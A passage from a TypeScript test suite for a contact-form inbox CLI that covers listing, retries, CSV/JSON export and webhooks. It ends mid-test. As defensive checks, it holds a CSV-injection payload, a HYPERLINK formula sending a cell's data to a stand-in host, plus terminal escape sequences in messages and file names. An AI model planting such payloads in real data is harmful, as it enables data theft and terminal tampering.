import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { filesOfMessages } from '../../../packages/site-forms/src/lib/files/listing.ts';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { Writable } from 'node:stream';
import { EXIT, streamOut } from '../../../packages/site-forms/src/lib/cli.ts';
import { type InboxCommand, type InboxIo, parseInboxArgs, runInboxCommand } from '../../../packages/site-forms/src/cli/inbox/commands.ts';
import { exportChunks, exported, messagesToCsv } from '../../../packages/site-forms/src/lib/contact/export.ts';
import { defineForm } from '../../../packages/site-forms/src/lib/forms/definition.ts';
import { EXPORT_COLUMNS } from '../../../packages/site-forms/src/lib/forms/reserved.ts';
import type { FormsSettings } from '../../../packages/site-forms/src/lib/forms/define-forms.ts';
import { createSmtpMailer } from '../../../packages/site-forms/src/lib/mail/mailer.ts';
import { createRecipients } from '../../../packages/site-forms/src/lib/people/recipients.ts';
import { createPeopleStore } from '../../../packages/site-forms/src/lib/people/store.ts';
import { digestNow } from '../../../packages/site-forms/src/lib/spam/upkeep.ts';
import { createDeliveries } from '../../../packages/site-forms/src/lib/webhooks/deliveries.ts';
import type { Endpoint } from '../../../packages/site-forms/src/lib/webhooks/endpoints.ts';
import { recordEvent } from '../../../packages/site-forms/src/lib/webhooks/events.ts';
import { parseMail } from '../../support/mime.ts';
import { type FakeSmtpServer, startSmtpServer } from '../../support/smtp.ts';
import type { Outbox } from '../../../packages/site-forms/src/lib/contact/outbox.ts';
import { createLogger } from '../../../packages/site-forms/src/lib/log.ts';
import { openStore, type Store } from '../../../packages/site-forms/src/lib/database/database.ts';
import { TEST_DATABASE } from '../../support/stores.ts';

describe('reading the arguments of npm run inbox', () => {
  test.each([
    [['list'], { name: 'list' }],
    [['show', '12'], { name: 'show', id: 12 }],
    [['retry', '3'], { name: 'retry', id: 3 }],
    [['export', '--format', 'csv'], { name: 'export', format: 'csv', bom: false }],
    [['export', '--format=json'], { name: 'export', format: 'json', bom: false }],
    [['help'], { name: 'help' }],
    [['--help'], { name: 'help' }],
    [['-h'], { name: 'help' }],
    [['digest'], { name: 'digest' }],
    [['webhooks'], { name: 'webhooks' }],
    [['webhooks', 'replay', '4'], { name: 'webhooks-replay', id: 4 }],
    [['export', '--format', 'csv', '--bom'], { name: 'export', format: 'csv', bom: true }],
    [['export', '--format=json', '--bom'], { name: 'export', format: 'json', bom: true }],
  ])('%j is %j', (args, command) => {
    expect(parseInboxArgs(args)).toEqual({ ok: true, command });
  });

  test.each([
    [[], 'No command given.'],
    [['lsit'], 'Unknown command: lsit'],
    [['show'], 'show needs the id of a message, a whole number such as 12.'],
    [['show', 'abc'], 'show needs the id of a message, a whole number such as 12.'],
    [['show', '0'], 'show needs the id of a message, a whole number such as 12.'],
    [['retry', '-1'], 'retry needs the id of a message, a whole number such as 12.'],
    [['export'], 'export needs --format csv or --format json.'],
    [['export', '--format', 'xml'], 'export needs --format csv or --format json.'],
    [['list', 'extra'], 'Unexpected argument: extra'],
    [['show', '1', '2'], 'Unexpected argument: 2'],
    [['digest', 'now'], 'Unexpected argument: now'],
    [['webhooks', 'list'], 'Unexpected argument: list'],
    [['webhooks', 'replay'], 'webhooks replay needs the id of a delivery, a whole number such as 12.'],
    [['webhooks', 'replay', 'abc'], 'webhooks replay needs the id of a delivery, a whole number such as 12.'],
    [['webhooks', 'replay', '4', '5'], 'Unexpected argument: 5'],
    [['export', '--format', 'csv', 'all.csv'], 'Unexpected argument: all.csv'],
    [['export', '--format', 'csv', '--bom', 'all.csv'], 'Unexpected argument: all.csv'],
    [['export', '--format', 'csv', '--bom', '--bom'], 'Unexpected argument: --bom'],
  ])('%j is a usage error: %s', (args, problem) => {
    expect(parseInboxArgs(args)).toEqual({ ok: false, problem });
  });
});

describe('the inbox commands', () => {
  let dir: string;
  let db: Store;
  let outbox: Outbox;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'site-forms-inbox-'));
    db = openStore({ ...TEST_DATABASE, url: undefined, dataDir: dir }, createLogger({ level: 'silent' }));
    outbox = db.outbox;
  });
  afterEach(async () => {
    await db.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function insert(row: {
    createdAt: string;
    name: string;
    email: string;
    message: string;
    status?: string;
    lastError?: string;
    sentAt?: string;
    attempts?: number;
    nextAttemptAt?: string | null;
    form?: string;
    fields?: Record<string, unknown>;
  }): Promise<number> {
    const inserted = await db.sql.get<{ id: number }>(
      'INSERT INTO submissions (created_at, name, email, message, status, last_error, sent_at, next_attempt_at, attempts, form, fields) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?) RETURNING id',
      [
        row.createdAt,
        row.name,
        row.email,
        row.message,
        row.status ?? 'pending',
        row.lastError ?? null,
        row.sentAt ?? null,
        row.nextAttemptAt !== undefined ? row.nextAttemptAt : row.status === 'pending' || !row.status ? row.createdAt : null,
        row.attempts ?? 0,
        row.form ?? 'contact',
        row.fields ? JSON.stringify(row.fields) : null,
      ],
    );
    return Number(inserted!.id);
  }

  async function run(command: InboxCommand, io: Partial<InboxIo> = {}) {
    let out = '';
    let err = '';
    const code = await runInboxCommand(command, {
      outbox,
      out: (t) => {
        out += t;
      },
      err: (t) => (err += t),
      now: () => new Date('2026-06-01T12:00:00.000Z'),
      ...io,
    });
    return { code, out, err };
  }

  test('list shows id, time, name, email and status, newest first, in aligned columns', async () => {
    await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada Lovelace',
      email: 'ada@example.org',
      message: 'First message here.',
      status: 'sent',
      sentAt: '2026-05-01T08:00:01.000Z',
    });
    await insert({
      createdAt: '2026-05-02T09:30:00.000Z',
      name: 'Bob',
      email: 'bob@example.net',
      message: 'Second message here.',
      status: 'failed',
      lastError: 'EENVELOPE 550: no',
    });
    await expect(run({ name: 'list' })).resolves.toEqual({
      code: EXIT.ok,
      err: '',
      out: [
        'ID  RECEIVED (UTC)       NAME          EMAIL            STATUS',
        '2   2026-05-02 09:30:00  Bob           bob@example.net  failed',
        '1   2026-05-01 08:00:00  Ada Lovelace  ada@example.org  sent',
        '',
      ].join('\n'),
    });
  });

  test('list cuts long names and addresses and aligns wide characters by the columns they take', async () => {
    await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Maximilian Alexander Freiherr von Humboldt',
      email: 'maximilian.alexander.humboldt@universitaet.example',
      message: 'A long name.',
    });
    await insert({ createdAt: '2026-05-02T09:30:00.000Z', name: '山田太郎', email: 'taro@example.jp', message: 'A wide name.' });
    await insert({ createdAt: '2026-05-03T10:45:00.000Z', name: 'Zoe\u0308 👩‍💻', email: 'zoe@example.org', message: 'Combining and emoji.' });
    expect((await run({ name: 'list' })).out.split('\n')).toEqual([
      'ID  RECEIVED (UTC)       NAME                      EMAIL                             STATUS',
      '3   2026-05-03 10:45:00  Zoe\u0308 👩‍💻                    zoe@example.org                   pending',
      '2   2026-05-02 09:30:00  山田太郎                  taro@example.jp                   pending',
      '1   2026-05-01 08:00:00  Maximilian Alexander Fr…  maximilian.alexander.humboldt@u…  pending',
      '',
    ]);
  });

  test('list says so on stderr when there is nothing yet', async () => {
    await expect(run({ name: 'list' })).resolves.toEqual({ code: EXIT.ok, out: '', err: 'No contact messages yet.\n' });
  });

  test('show prints the whole message and its delivery history', async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada Lovelace', email: 'ada@example.org', message: 'Line one,\nline two.' });
    await outbox.markRetry(id, new Date('2026-05-01T08:00:01.000Z'), new Date('2026-05-01T08:00:31.000Z'), 'ESOCKET: connect ECONNREFUSED');
    await outbox.markSent(id, new Date('2026-05-01T08:00:31.500Z'));
    await expect(run({ name: 'show', id })).resolves.toEqual({
      code: EXIT.ok,
      err: '',
      out: [
        `Message #${id}`,
        'Received: 2026-05-01T08:00:00.000Z',
        'From:     Ada Lovelace <ada@example.org>',
        'Status:   sent at 2026-05-01T08:00:31.500Z',
        '',
        'Line one,',
        'line two.',
        '',
        'Delivery history:',
        '  2026-05-01T08:00:01.000Z  retrying  ESOCKET: connect ECONNREFUSED',
        '  2026-05-01T08:00:31.500Z  sent',
        '',
      ].join('\n'),
    });
  });

  test("show lists the message's files, by name and size, as the admin does", async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada Lovelace', email: 'ada@example.org', message: 'The bracket broke.' });
    await db.sql.run(
      "INSERT INTO files (id, submission_id, field, name, size, type, storage_key, created_at, position) VALUES ('AAAAAAAAAAAAAAAAAAAAAAAA', ?, 'photos', 'bracket.jpg', 1500000, 'image/jpeg', '2026-05/AAAAAAAAAAAAAAAAAAAAAAAA', '2026-05-01T08:00:00.000Z', 0), ('BBBBBBBBBBBBBBBBBBBBBBBB', ?, 'photos', 'plan\u001b[2J.pdf', 2048, 'application/pdf', '2026-05/BBBBBBBBBBBBBBBBBBBBBBBB', '2026-05-01T08:00:00.000Z', 1)",
      [id, id],
    );
    const { out } = await run({ name: 'show', id }, { files: (ids) => filesOfMessages(db.sql, ids) });
    expect(out.split('\n').slice(5, 10)).toEqual(['The bracket broke.', 'Files:', '  bracket.jpg (1.5 MB)', '  plan\uFFFD[2J.pdf (2 kB)', '']);
  });

  test('show turns terminal escape sequences in a message into visible replacement characters', async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Eve', email: 'eve@example.org', message: 'Hi \u001b[2Jthere, friend.' });
    const { out } = await run({ name: 'show', id });
    expect(out).not.toContain('\u001b');
    expect(out).toContain('Hi \uFFFD[2Jthere, friend.');
  });

  test('show of an id that does not exist exits 1 and says so on stderr', async () => {
    await expect(run({ name: 'show', id: 99 })).resolves.toEqual({ code: EXIT.notFound, out: '', err: 'No contact message #99. See npm run inbox -- list.\n' });
  });

  test('export --format csv quotes commas, quotes and line breaks as RFC 4180 asks', async () => {
    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Lovelace, Ada', email: 'ada@example.org', message: 'She said "hello",\r\nthen left.' });
    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
        '1,2026-05-01 08:00:00,"Lovelace, Ada",ada@example.org,"She said ""hello"",\r\nthen left.",pending,0,2026-05-01 08:00:00,,,\r\n',
    );
  });

  test('export --format csv writes a name or message a spreadsheet would run as a formula as text (OWASP)', async () => {
    await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: '=HYPERLINK("http://evil.test/?x="&C2,"Click")',
      email: 'eve@example.org',
      message: '@SUM(1,2) then more',
    });
    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
        `1,2026-05-01 08:00:00,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01 08:00:00,,,\r\n`,
    );
  });

  test('export --format json prints one JSON array with every field', async () => {
    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    const { out, err, code } = await run({ name: 'export', format: 'json', bom: false });
    expect({ code, err }).toEqual({ code: EXIT.ok, err: '' });
    expect(JSON.parse(out)).toEqual([
      {
        id: 1,
        createdAt: '2026-05-01T08:00:00.000Z',
        name: 'Ada',
        email: 'ada@example.org',
        message: 'Hello there, friend.',
        status: 'pending',
        attempts: 0,
        nextAttemptAt: '2026-05-01T08:00:00.000Z',
        lastError: null,
        sentAt: null,
        spamReasons: [],
      },
    ]);
  });

  test('export of an empty inbox is an empty array and a header row', async () => {
    expect(JSON.parse((await run({ name: 'export', format: 'json', bom: false })).out)).toEqual([]);
    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n',
    );
  });

  test('retry puts a failed message back in the queue, due at once, with the requeue in its history', async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    await outbox.markFailed(id, new Date('2026-05-01T08:00:01.000Z'), 'EENVELOPE 550: no such user');
    await expect(run({ name: 'retry', id })).resolves.toMatchObject({ code: EXIT.ok, out: expect.stringContaining(`#${id} is pending again`) });
    await expect(outbox.find(id)).resolves.toMatchObject({ status: 'pending', attempts: 0, nextAttemptAt: '2026-06-01T12:00:00.000Z' });
    expect((await outbox.claim(new Date('2026-06-01T12:00:00.000Z'), new Date('2026-06-01T12:02:00.000Z')))?.id).toBe(id);
    expect((await outbox.history(id)).map((e) => e.outcome)).toEqual(['failed', 'requeued']);
  });

  test('retry of a pending message changes nothing; of a sent one, exits 1; of a missing one, exits 1', async () => {
    const pending = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    const sent = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Bob',
      email: 'bob@example.org',
      message: 'Hello there, friend.',
      status: 'sent',
      sentAt: '2026-05-01T08:00:01.000Z',
    });
    await expect(run({ name: 'retry', id: pending })).resolves.toMatchObject({ code: EXIT.ok, out: expect.stringContaining('already pending') });
    await expect(run({ name: 'retry', id: sent })).resolves.toMatchObject({
      code: EXIT.notFound,
      err: expect.stringContaining('was delivered at 2026-05-01T08:00:01.000Z'),
    });
    await expect(run({ name: 'retry', id: 99 })).resolves.toMatchObject({ code: EXIT.notFound, err: expect.stringContaining('No contact message #99') });
    await expect(outbox.history(pending)).resolves.toEqual([]);
    expect((await outbox.find(sent))?.status).toBe('sent');
  });

  test('retry of a pending message names its next attempt, or the server when it has none', async () => {
    const due = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    const undated = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Bob',
      email: 'bob@example.org',
      message: 'Hello there, friend.',
      nextAttemptAt: null,
    });
    await expect(run({ name: 'retry', id: due })).resolves.toEqual({
      code: EXIT.ok,
      out: `Message #${due} is already pending; next attempt at 2026-05-01T08:00:00.000Z.\n`,
      err: '',
    });
    await expect(run({ name: 'retry', id: undated })).resolves.toEqual({
      code: EXIT.ok,
      out: `Message #${undated} is already pending; next attempt at once the server runs.\n`,
      err: '',
    });
  });

  test('retry and spam of a message being sent right now say so, and spam holds it once that send ends', async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    // The correction reads the wall clock, so the lease runs from now.
    expect((await outbox.claim(new Date(), new Date(Date.now() + 120_000)))?.id).toBe(id);
    await expect(run({ name: 'retry', id })).resolves.toEqual({ code: EXIT.ok, out: `Message #${id} is being sent right now; nothing to retry.\n`, err: '' });
    await expect(run({ name: 'spam', id }, { spam: db.spam })).resolves.toEqual({
      code: EXIT.ok,
      out: `Message #${id} is being sent right now: it is held as spam once that send ends, and never sent again.\n`,
      err: '',
    });
  });

  test.each(['release', 'spam'] as const)('%s without the spam records is a programming error, not a silent success', async (name) => {
    await expect(run({ name, id: 1 })).rejects.toThrow(new Error('the spam records are not open'));
  });

  test('help prints the usage on stdout', async () => {
    const { code, out, err } = await run({ name: 'help' });
    expect({ code, err }).toEqual({ code: EXIT.ok, err: '' });
    expect(out.startsWith('Usage: npm run inbox -- <command>\n\nCommands:\n')).toBe(true);
    expect(out).toContain('  webhooks replay <id>       send a delivery again from the start of its schedule (one waiting: now)\n');
  });

  test('show of a failed message gives the last error on one line and how to send it again', async () => {
    const id = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada',
      email: 'ada@example.org',
      message: 'Hello there, friend.',
      status: 'failed',
      lastError: 'EENVELOPE 550: 550 No such user\r\nhere',
    });
    const nameless = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Bob', email: 'bob@example.org', message: 'Hi.', status: 'failed' });
    expect((await run({ name: 'show', id })).out.split('\n')[3]).toBe(
      `Status:   failed: EENVELOPE 550: 550 No such user here (npm run inbox -- retry ${id} sends it again)`,
    );
    expect((await run({ name: 'show', id: nameless })).out.split('\n')[3]).toBe(
      `Status:   failed: unknown reason (npm run inbox -- retry ${nameless} sends it again)`,
    );
  });

  test.each([
    [1, 'Status:   pending, 1 failed attempt, next at 2026-05-01T08:05:00.000Z'],
    [2, 'Status:   pending, 2 failed attempts, next at 2026-05-01T08:05:00.000Z'],
  ])('show of a pending message after %i failed attempts counts them', async (attempts, line) => {
    const id = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada',
      email: 'ada@example.org',
      message: 'Hello there, friend.',
      attempts,
      nextAttemptAt: '2026-05-01T08:05:00.000Z',
    });
    expect((await run({ name: 'show', id })).out.split('\n')[3]).toBe(line);
  });

  test('show names the form a message came from and lists its other fields, also of a form since removed', async () => {
    const id = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada',
      email: 'ada@example.org',
      message: 'A quote, please.',
      form: 'quote',
      fields: { phone: '+49 30 1234', callback: true, notes: 'two\nlines' },
    });
    await expect(run({ name: 'show', id })).resolves.toEqual({
      code: EXIT.ok,
      err: '',
      out: [
        `Message #${id}`,
        'Received: 2026-05-01T08:00:00.000Z',
        'From:     Ada <ada@example.org>',
        'Form:     quote (quote)',
        'Status:   pending, not attempted yet',
        '',
        'A quote, please.',
        'phone: +49 30 1234',
        'callback: Yes',
        'notes: two lines',
        '',
        'Delivery history: none yet',
        '',
      ].join('\n'),
    });
  });

  test('show of a contact message has no form line, and still lists a field no longer defined', async () => {
    const id = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada',
      email: 'ada@example.org',
      message: 'Call me.',
      fields: { phone: '+49 30 1234' },
    });
    const lines = (await run({ name: 'show', id })).out.split('\n');
    expect(lines.slice(2, 8)).toEqual(['From:     Ada <ada@example.org>', 'Status:   pending, not attempted yet', '', 'Call me.', 'phone: +49 30 1234', '']);
  });

  test('export --bom starts the CSV with a UTF-8 byte order mark, once', async () => {
    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello.' });
    expect((await run({ name: 'export', format: 'csv', bom: true })).out).toBe(
      '\uFEFFid,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
        '1,2026-05-01 08:00:00,Ada,ada@example.org,Hello.,pending,0,2026-05-01 08:00:00,,,\r\n',
    );
  });

  test('an export without options has no byte order mark, in chunks or at once', async () => {
    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello.' });
    const csv =
      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
      '1,2026-05-01 08:00:00,Ada,ada@example.org,Hello.,pending,0,2026-05-01 08:00:00,,,\r\n';
    let chunked = '';
    for await (const chunk of exportChunks(outbox, 'csv')) chunked += chunk;
    expect(chunked).toBe(csv);
    const rows = (await outbox.list()).map((s) => exported(s));
    expect(messagesToCsv(rows)).toBe(csv);
    expect(messagesToCsv(rows, { byteOrderMark: true })).toBe(`\uFEFF${csv}`);
  });

  /** `count` messages of `characters` characters, received a second apart, in one transaction. */
  async function insertMany(count: number, characters: number): Promise<void> {
    const body = 'Lorem ipsum dolor sit amet, "quoted", and a line\nbreak. '.repeat(Math.ceil(characters / 56)).slice(0, characters);
    await db.sql.transaction(async (tx) => {
      for (let n = 0; n < count; n++) {
        await tx.run("INSERT INTO submissions (created_at, name, email, message, status) VALUES (?, ?, ?, ?, 'spam')", [
          new Date(Date.UTC(2026, 4, 1) + n * 1000).toISOString(),
          `Bot ${n}`,
          `bot${n}@example.net`,
          body,
        ]);
      }
    });
  }

  test.each(['csv', 'json'] as const)(
    'export --format %s waits for its output to drain: a slow reader holds about one chunk, never the export',
    async (format) => {
      await insertMany(1200, 5000);
      // A reader that takes each chunk only when the test says so, as a full pipe does.
      const held: (() => void)[] = [];
      const sink = new Writable({ highWaterMark: 16 * 1024, write: (_chunk, _encoding, done) => void held.push(done) });
      let written = 0;
      let finished = false;
      const running = runInboxCommand({ name: 'export', format, bom: false }, { outbox, out: streamOut(sink), err: () => undefined }).then((code) => {
        finished = true;
        return code;
      });
      let most = 0;
      while (!finished) {
        await new Promise((resolve) => setImmediate(resolve));
        most = Math.max(most, sink.writableLength);
        const next = held.shift();
        if (next) {
          written++;
          next();
        }
      }
      expect(await running).toBe(EXIT.ok);
      // The whole export is about 6 MB (90 chunks and more); what waits in the sink is at most one chunk of about 64 KB.
      expect(most).toBeLessThan(200_000);
      expect(written).toBeGreaterThan(50);
    },
  );

  test.each(['csv', 'json'] as const)('export --format %s comes in chunks of about 64 KB, together what the one-piece writers write', async (format) => {
    await insertMany(1200, 5000);
    const chunks: string[] = [];
    for await (const chunk of exportChunks(outbox, format)) chunks.push(chunk);
    // A chunk of 64 KB and one message more at most: small strings, which V8 collects young.
    expect(Math.max(...chunks.map((chunk) => chunk.length))).toBeLessThan(64 * 1024 + 6 * 1024);
    const rows = (await outbox.list()).map((s) => exported(s));
    expect(chunks.join('')).toBe(format === 'json' ? `${JSON.stringify(rows, null, 2)}\n` : messagesToCsv(rows));
  });

  describe('the spreadsheet export (CSV for Excel)', () => {
    // A German owner's forms, built here: the contact form with a phone field, and a quote form
    // with a select and a box (labels as the owner wrote them).
    const forms: FormsSettings = {
      contact: defineForm({
        name: 'contact',
        title: 'Kontakt',
        fields: [
          { name: 'name', type: 'text', label: 'Ihr Name' },
          { name: 'email', type: 'email', label: 'E-Mail-Adresse' },
          { name: 'message', type: 'textarea', label: 'Nachricht' },
          { name: 'phone', type: 'tel', label: 'Telefon' },
        ],
      }),
      forms: [
        defineForm({
          name: 'quote',
          title: 'Angebot',
          fields: [
            { name: 'name', type: 'text', label: 'Name' },
            { name: 'email', type: 'email', label: 'E-Mail' },
            {
              name: 'budget',
              type: 'select',
              label: 'Budget',
              choices: [
                { value: 'small', label: 'Bis 1.000 €' },
                { value: 'large', label: 'Über 1.000 €' },
              ],
            },
            { name: 'phone', type: 'tel', label: 'Rückrufnummer' },
          ],
        }),
      ],
    };

    test('German: semicolons, the labels as headers, choices by their labels, Vienna time with its offset, a phone number as it is', async () => {
      await insert({
        createdAt: '2026-11-24T14:57:13.123Z',
        name: 'Zoë Huber',
        email: 'zoe@example.at',
        message: 'Preis; bitte.',
        form: 'quote',
        fields: { budget: 'large', phone: '+43 664 1234567' },
        status: 'sent',
        sentAt: '2026-07-01T22:30:00.000Z',
      });
      await insert({ createdAt: '2026-11-25T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: '=1+1', fields: { phone: '+1-555-1234' } });
      const { out } = await run(
        { name: 'export', format: 'csv', bom: false, excel: true },
        { spreadsheet: { language: 'de', timeZone: 'Europe/Vienna', forms } },
      );
      expect(out).toBe(
        '\uFEFFNr.;Eingegangen;Ihr Name;E-Mail-Adresse;Nachricht;Status;Versuche;Nächster Versuch;Letzter Fehler;Gesendet;Spam-Gründe;Formular;Telefon;Budget\r\n' +
          `2;2026-11-25 09:00:00 +01:00;Ada;ada@example.org;"'=1+1";Wartend;0;2026-11-25 09:00:00 +01:00;;;;Kontakt;"'+1-555-1234";\r\n` +
          '1;2026-11-24 15:57:13 +01:00;Zoë Huber;zoe@example.at;"Preis; bitte.";Gesendet;0;;;2026-07-02 00:30:00 +02:00;;Angebot;+43 664 1234567;Über 1.000 €\r\n',
      );
    });

    test('German: the spam reasons in the language’s words, the JSON export keeping their codes as data', async () => {
      const id = await insert({ createdAt: '2026-11-24T14:57:13.000Z', name: 'Bot', email: 'bot@example.org', message: 'Kaufen', status: 'spam' });
      await db.sql.run('UPDATE submissions SET spam_reasons = ? WHERE id = ?', [JSON.stringify(['too-fast', 'link-in-name', 'old-rule']), id]);
      const { out } = await run({ name: 'export', format: 'csv', bom: false, excel: true }, { spreadsheet: { language: 'de', timeZone: 'UTC', forms } });
      expect(out.split('\r\n')[1]).toBe(
        '1;2026-11-24 14:57:13 +00:00;Bot;bot@example.org;Kaufen;Als Spam zurückgehalten;0;;;;' +
          '"weniger als 3 Sekunden nach dem Öffnen des Formulars gesendet; ein Link oder eine Domain im Namen; old-rule";Kontakt;;',
      );
      const json = await run({ name: 'export', format: 'json', bom: false });
      expect(JSON.parse(json.out)[0].spamReasons).toEqual(['too-fast', 'link-in-name', 'old-rule']);
    });

    test('English: commas, and the times in UTC written with their offset', async () => {
      await insert({ createdAt: '2026-11-24T14:57:13.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello, there.', status: 'spam' });
      const { out } = await run({ name: 'export', format: 'csv', bom: false, excel: true }, { spreadsheet: { language: 'en', timeZone: 'UTC', forms } });
      expect(out).toBe(
        '\uFEFFNo.,Received,Ihr Name,E-Mail-Adresse,Nachricht,Status,Attempts,Next attempt,Last error,Sent,Spam reasons,Form,Telefon,Budget\r\n' +
          '1,2026-11-24 14:57:13 +00:00,Ada,ada@example.org,"Hello, there.",Held as spam,0,,,,,Kontakt,,\r\n',
      );
    });

    test('export --excel reads only with --format csv', () => {
      expect(parseInboxArgs(['export', '--format', 'csv', '--excel'])).toEqual({
        ok: true,
        command: { name: 'export', format: 'csv', bom: false, excel: true },
      });
      expect(parseInboxArgs(['export', '--format', 'json', '--excel'])).toEqual({ ok: false, problem: '--excel writes CSV: use it with --format csv.' });
    });
  });

  test("an exported message has its form and each extra field's value, empty where its form has none", async () => {
    const id = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada',
      email: 'ada@example.org',
      message: 'A quote, please.',
      form: 'quote',
      fields: { phone: '+49 30 1234' },
    });
    const submission = (await outbox.find(id))!;
    expect(exported(submission, [...EXPORT_COLUMNS, 'form', 'phone', 'budget'])).toEqual({
      id,
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada',
      email: 'ada@example.org',
      message: 'A quote, please.',
      status: 'pending',
      attempts: 0,
      nextAttemptAt: '2026-05-01T08:00:00.000Z',
      lastError: null,
      sentAt: null,
      spamReasons: [],
      form: 'quote',
      phone: '+49 30 1234',
      budget: null,
    });
  });

  test('a field named constructor or toString is empty where its form has none, not the text of a function', async () => {
    const other = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'A quote, please.', form: 'quote' });
    const own = await insert({
      createdAt: '2026-05-01T09:00:00.000Z',
      name: 'Bea',
      email: 'bea@example.org',
      message: 'A call, please.',
      form: 'callback',
      fields: { constructor: 'oak', toString: 'walnut' },
    });
    const columns = [...EXPORT_COLUMNS, 'form', 'constructor', 'toString', 'hasOwnProperty'];
    const pick = (row: Record<string, unknown>) => ({ constructor: row.constructor, toString: row.toString, hasOwnProperty: row.hasOwnProperty });
    expect(pick(exported((await outbox.find(other))!, columns))).toEqual({ constructor: null, toString: null, hasOwnProperty: null });
    expect(pick(exported((await outbox.find(own))!, columns))).toEqual({ constructor: 'oak', toString: 'walnut', hasOwnProperty: null });
    expect(messagesToCsv([exported((await outbox.find(other))!, columns)])).not.toContain('native code');
  });

  describe('webhooks', () => {
    const endpoints: Endpoint[] = [
      { name: 'webhook', kind: 'standard', url: 'http://127.0.0.1:9/hook', events: ['contact.received'] },
      { name: 'slack', kind: 'slack', url: 'http://127.0.0.1:9/slack', events: ['contact.received'] },
    ];

    /** One message's event sent to both endpoints: the webhook's try failed (pending again), Slack's delivered. */
    async function deliveries() {
      const webhooks = createDeliveries(db.sql, { random: () => 0 });
      await db.sql.transaction((tx) => recordEvent(tx, 'contact.received', { id: 1 }, new Date('2026-06-01T11:00:00.000Z')));
      expect(await webhooks.fanOut(endpoints, new Date('2026-06-01T11:00:01.250Z'))).toBe(2);
      const at = new Date('2026-06-01T11:00:02.000Z');
      const lease = new Date('2026-06-01T11:01:00.000Z');
      const first = (await webhooks.claim(at, lease))!;
      await webhooks.finish(first.delivery.id, first.lease, { kind: 'retry', status: 500, error: 'HTTP 500 from the receiver' }, at);
      const second = (await webhooks.claim(at, lease))!;
      await webhooks.finish(second.delivery.id, second.lease, { kind: 'delivered', status: 200 }, at);
      return webhooks;
    }

    test('list the deliveries, newest first, with their tries and last error', async () => {
      await expect(run({ name: 'webhooks' }, { webhooks: await deliveries() })).resolves.toEqual({
        code: EXIT.ok,
        err: '',
        out: [
          'ID  CREATED (UTC)        EVENT             TO       STATUS     TRIES  LAST ERROR',
          '2   2026-06-01 11:00:01  contact.received  slack    delivered  1',
          '1   2026-06-01 11:00:01  contact.received  webhook  pending    1      HTTP 500 from the receiver',
          '',
        ].join('\n'),
      });
    });

    test('with none yet, or no webhook records at all, says so on stderr', async () => {
      const empty = { code: EXIT.ok, out: '', err: 'No webhook deliveries yet.\n' };
      await expect(run({ name: 'webhooks' }, { webhooks: createDeliveries(db.sql) })).resolves.toEqual(empty);
      await expect(run({ name: 'webhooks' })).resolves.toEqual(empty);
    });

    test('replay sends a finished delivery again from the start, one waiting for its next try now; an unknown one is refused', async () => {
      const webhooks = await deliveries();
      await expect(run({ name: 'webhooks-replay', id: 2 }, { webhooks })).resolves.toEqual({
        code: EXIT.ok,
        out: 'Delivery #2 is sent again within a few seconds by the running server.\n',
        err: '',
      });
      expect((await webhooks.list(50)).map((d) => [d.id, d.status, d.attempts, d.nextAttemptAt])).toEqual([
        [2, 'pending', 0, '2026-06-01T12:00:00.000Z'],
        [1, 'pending', 1, expect.any(String)],
      ]);
      // #1 waits for its second try, 5 s after its first (already past at 12:00): the server sends it on its next look.
